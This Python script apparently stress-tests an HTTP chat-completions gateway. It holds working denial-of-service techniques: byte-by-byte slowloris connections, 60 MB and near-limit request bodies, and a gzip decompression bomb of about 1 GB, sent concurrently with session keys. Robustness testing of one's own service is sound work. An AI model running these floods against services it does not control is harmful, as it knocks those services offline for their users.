"""Hostile clients of a gateway: `python attack.py URL SLOW SECONDS` with keys of sessions on stdin; prints JSON.

SLOW connections send a head or a body byte by byte. Meanwhile bodies of 60 MB, bodies just below the limit (text, and
JSON of many objects) and packed bombs come one after the other. Nothing of the project is imported.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import sys
import time
import zlib
from collections import Counter
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

MANY = 40  # connections that send large bodies at a time


def head(key: str, *lines: str) -> bytes:
    first = ("POST /v1/chat/completions HTTP/1.1", "Host: a", f"Authorization: Bearer {key}")
    return "\r\n".join((*first, *lines, "", "")).encode()


def text(n: int) -> bytes:
    return b'{"messages": [{"role": "user", "content": "' + b"12+34=46 " * (n // 9 - 9) + b'"}]}'


def bodies(limit: int) -> Iterator[tuple[str, bytes, tuple[str, ...]]]:
    """Kind, bytes, further lines of the head."""
    objects = b'{"messages": [{"role": "user", "content": "a"}], "tools": [{"function": {"a": ['
    objects += b"{}," * (limit // 3 - 100) + b"0]}}]}"
    yield "60 MB of text", text(60_000_000), ()
    yield "text below the limit", text(limit - 1000), ()
    yield "objects below the limit", objects, ()
    yield "60 MB of text in gzip", gzip.compress(text(60_000_000)), ("Content-Encoding: gzip",)
    yield "1 GB of zeros in gzip", bomb(1024), ("Content-Encoding: gzip",)


def bomb(n: int) -> bytes:
    """A stream of gzip of so many MiB of zeros, without the checksum at its end: each MiB is packed alike."""
    packer = zlib.compressobj(9, wbits=31)
    first, *_, last = (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(3))
    return first + last * (n - 1)


async def slow(host: str, port: int, key: str, whole: bytes, until: float) -> str:
    """Sends the first kilobyte at once, and then a byte at a time."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(whole[:-1000] if len(whole) > 1000 else b"")
        for place in range(max(len(whole) - 1000, 0), len(whole)):
            writer.write(whole[place : place + 1])
            await writer.drain()
            await asyncio.sleep(0.5)
            if time.monotonic() > until:
                return "held"
        return (await reader.readline()).decode().strip()
    except OSError:
        return "closed"
    finally:
        writer.close()


async def large(host: str, port: int, key: str, kind: tuple[str, bytes, tuple[str, ...]]) -> str:
    name, body, lines = kind
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(head(key, f"Content-Length: {len(body)}", *lines) + body)
        return f"{name}: {(await reader.readline()).decode().strip()}"
    except OSError:
        return f"{name}: reset"
    finally:
        writer.close()


async def attack(url: str, count: int, seconds: float, limit: int, keys: list[str]) -> dict[str, int]:
    place, seen = urlsplit(url), Counter[str]()
    kinds = list(bodies(limit))
    host, port, until = str(place.hostname), int(place.port or 0), time.monotonic() + seconds

    async def slowly(number: int) -> None:
        key = keys[number % len(keys)]
        whole = head(key) if number % 3 == 0 else head(key, "Content-Length: 4000") + b"a" * 3000
        seen["slow: " + await slow(host, port, key, whole, until)] += 1

    async def largely(number: int) -> None:
        while True:  # each kind at least once, however busy the machine is
            seen[await large(host, port, keys[number % len(keys)], kinds[number % len(kinds)])] += 1
            if time.monotonic() > until:
                return

    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(slowly(number))
            await asyncio.sleep(0.002)
        for number in range(MANY):
            tasks.create_task(largely(number))
    return dict(seen)


if __name__ == "__main__":
    arguments: list[Any] = [sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])]
    print(json.dumps(asyncio.run(attack(*arguments, sys.stdin.read().split()))))  # noqa: T201
